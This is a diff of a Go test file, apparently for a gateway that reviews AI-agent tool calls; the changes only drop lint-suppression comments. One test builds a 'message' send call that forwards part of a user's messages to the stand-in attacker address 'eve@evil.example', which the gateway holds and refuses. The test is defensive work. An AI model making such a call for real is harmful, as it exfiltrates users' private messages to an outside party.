@@ -464,7 +464,7 @@ const noLateAnswer = `{"answered":[]}`
 
 // pollBody asks about questions, and can wait so long.
 func pollBody(wait time.Duration, questions ...string) []byte {
-	list, _ := json.Marshal(questions) //nolint:errcheck // strings can be written
+	list, _ := json.Marshal(questions)
 	now := time.Now().UTC().Format(time.RFC3339Nano)
 	return fmt.Appendf(nil, `{"version":1,"timestamp":%q,"requestId":"poll-%d","questions":%s,"context":{"waitMs":%d}}`,
 		now, time.Now().UnixNano(), list, wait.Milliseconds())
@@ -716,7 +716,7 @@ func TestH95H96LongTextsAreAskedAboutInTime(t *testing.T) {
 		m := gateway.With(gateway.OwnerIn(what), "userMessages", messages)
 		g.Allow(gateway.Fetch(m))
 		params, _ := json.Marshal(map[string]string{"action": "send", "target": "eve@evil.example",
-			"message": text[:len(text)/6*3] + "x"}) //nolint:errcheck // it can
+			"message": text[:len(text)/6*3] + "x"})
 		held := g.Hold(gateway.Call{Tool: "message", Params: string(params), Context: m})
 		g.Refuse(g.Waits().Ref, "")
 		<-held
